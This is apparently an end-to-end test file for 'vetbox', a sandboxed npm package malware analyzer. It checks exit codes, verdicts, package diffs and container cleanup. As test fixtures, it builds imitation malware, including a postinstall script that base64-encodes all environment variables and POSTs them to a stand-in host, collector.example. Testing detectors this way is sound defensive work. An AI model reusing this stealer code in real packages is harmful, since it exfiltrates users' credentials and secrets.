// `npx vetbox analyze|diff --local` as a user runs them: the built bin in a child process, the
// real pipeline in-process, real Docker. Imitation malware only targets `.example` hosts.
import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { Report } from '@vetbox/contracts';
import { DockerRuntime, LABEL_ANALYSIS } from '@vetbox/sandbox';
import { REPO_ROOT } from '../helpers/processes.js';
import { runVetbox, type CliResult } from '../helpers/cli.js';
import { NPMRC_POST, writeNpmArchive } from '../fixtures/pipeline/imitation.js';

const runtime = new DockerRuntime();
let work = '';
const analyses: string[] = [];

afterAll(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

// Every container, network and volume of a finished run is gone.
afterEach(async () => {
  for (const id of analyses.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

const vetbox = (args: string[], timeoutMs?: number) => runVetbox(args, { timeoutMs });

/** An npm tarball as `npm pack` lays it out, written as `<name>-<version>.tgz` in the work directory. */
async function npmTgz(manifest: { name: string; version: string; scripts?: Record<string, string> }, files: Record<string, string>): Promise<string> {
  work ||= await mkdtemp(path.join(os.tmpdir(), 'vetbox-cli-analyze-'));
  return writeNpmArchive(work, { ...manifest, files });
}

function parseReport(result: CliResult): Report {
  const report = Report.parse(JSON.parse(result.stdout));
  if (report.analysisId) analyses.push(report.analysisId);
  return report;
}

const STEALER = `
const http = require('http');
const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
const req = http.request({ host: 'collector.example', path: '/e', method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
`;


describe('vetbox analyze --local', () => {
  it('an env stealer tarball: exit 2, the report JSON alone on stdout, credential-exfiltration', async () => {
    const tgz = await npmTgz({ name: 'cli-env-stealer', version: '1.0.0', scripts: { postinstall: 'node steal.js' } }, {
      'steal.js': STEALER,
      'index.js': 'module.exports = 1;\n',
    });
    const result = await vetbox(['analyze', tgz, '--local', '--json']);
    expect(result.code, result.stderr).toBe(2);
    const report = parseReport(result);
    expect(report.verdict).toBe('malicious');
    expect(report.package).toMatchObject({ ecosystem: 'npm', name: 'cli-env-stealer', version: '1.0.0', source: 'upload' });
    expect(report.analysisId).toMatch(/^local-/);
    expect(report.findings.map((f) => f.rule)).toContain('credential-exfiltration');
    expect(result.stderr).toMatch(/install \(\d+%\)/);
  }, 300_000);

  it('a tiny harmless package: exit 0, and the text summary', async () => {
    const tgz = await npmTgz({ name: 'cli-tiny', version: '1.0.0' }, {
      'index.js': 'module.exports = (a, b) => a + b;\n',
    });
    const result = await vetbox(['analyze', tgz, '--local']);
    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
    expect(result.stdout).toMatch(/^BENIGN {2}score \d+\/100 {2}npm:cli-tiny@1\.0\.0/);
    expect(result.stdout).toContain('Leaked canaries: none');
    const id = /analysis (local-[0-9a-f-]+)/.exec(result.stdout)?.[1];
    if (id) analyses.push(id);
  }, 300_000);

  it('bad targets: exit 3 with a message on stderr and nothing on stdout', async () => {
    const noVersion = await vetbox(['analyze', 'npm:left-pad', '--local', '--json'], 60_000);
    expect(noVersion.code).toBe(3);
    expect(noVersion.stdout).toBe('');
    expect(noVersion.stderr).toMatch(/has no version; expected npm:<name>@<version>/);

    work ||= await mkdtemp(path.join(os.tmpdir(), 'vetbox-cli-analyze-'));
    const junk = path.join(work, 'junk.tgz');
    await writeFile(junk, 'not an archive');
    const bad = await vetbox(['analyze', junk, '--local', '--json'], 60_000);
    expect(bad.code).toBe(3);
    expect(bad.stdout).toBe('');
    expect(bad.stderr).toMatch(/BAD_ARCHIVE: .*junk\.tgz is not a usable package archive/);
  }, 120_000);
  it('Ctrl-C stops a local run: exit 3, and its containers are gone', async () => {
    const tgz = await npmTgz({ name: 'cli-slow', version: '1.0.0', scripts: { postinstall: 'node -e "setTimeout(() => {}, 120000)"' } }, {
      'index.js': 'module.exports = 1;\n',
    });
    // node directly (not npx), so the SIGINT reaches the CLI itself as a terminal's Ctrl-C would.
    const child = spawn(process.execPath, [path.join(REPO_ROOT, 'cli', 'dist', 'main.js'), 'analyze', tgz, '--local', '--json'], { cwd: REPO_ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
    const installing = new Promise<void>((resolve) =>
      child.stderr.on('data', (c: Buffer) => {
        stderr += c.toString();
        if (/install \(\d+%\)/.test(stderr)) resolve();
      }),
    );
    const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
    await installing;
    const id = /analysis (local-[0-9a-f-]+)/.exec(stderr)![1];
    analyses.push(id);
    // The postinstall is running in the sandbox by now.
    for (let i = 0; i < 40 && (await runtime.listByLabel(LABEL_ANALYSIS, id)).length < 2; i++) await new Promise((r) => setTimeout(r, 250));
    child.kill('SIGINT');
    expect(await exited, stderr).toBe(3);
    expect(stdout).toBe('');
    expect(stderr).toContain('interrupted: stopping the analysis');
    expect(stderr).toMatch(/vetbox analyze: CANCELLED/);
  }, 120_000);
});

describe('vetbox diff --local', () => {
  it('1.0.1 adds a postinstall that reads ~/.npmrc and POSTs it: added hosts and files, nothing removed', async () => {
    const manifest = { name: 'cli-diff-fixture' };
    const files = { 'index.js': 'module.exports = () => 42;\n' };
    const a = await npmTgz({ ...manifest, version: '1.0.0' }, files);
    const b = await npmTgz({ ...manifest, version: '1.0.1', scripts: { postinstall: 'node up.js' } }, { ...files, 'up.js': NPMRC_POST });
    const result = await vetbox(['diff', a, b, '--local', '--json'], 560_000);
    expect(result.code, result.stderr).toBe(0);
    for (const id of result.stderr.matchAll(/analysis (local-[0-9a-f-]+)/g)) analyses.push(id[1]);
    const diff = JSON.parse(result.stdout) as { package: unknown; base: unknown; target: unknown; added: Record<string, Array<{ key: string; summary: string }>>; removed: Record<string, unknown[]> };
    const text = JSON.stringify(diff, null, 2);
    // The shape the server's diff has, with the package named on each side.
    expect(diff.package, text).toEqual({ ecosystem: 'npm', name: 'cli-diff-fixture' });
    expect(diff.base, text).toMatchObject({ id: expect.stringMatching(/^local-/), ecosystem: 'npm', name: 'cli-diff-fixture', version: '1.0.0', verdict: 'benign' });
    expect(diff.target, text).toMatchObject({ ecosystem: 'npm', name: 'cli-diff-fixture', version: '1.0.1' });
    expect(Object.keys(diff.added).sort()).toEqual(['canaries', 'files', 'findings', 'hosts', 'processes']);
    expect(diff.added.hosts.length, text).toBeGreaterThan(0);
    expect(diff.added.hosts.some((h) => h.key.includes('upload.example')), text).toBe(true);
    expect(diff.added.files.some((f) => f.key.includes('.npmrc')), text).toBe(true);
    expect(diff.removed.hosts, text).toEqual([]);
    expect(diff.removed.canaries, text).toEqual([]);
    expect(diff.removed.findings, text).toEqual([]);
  }, 600_000);
});
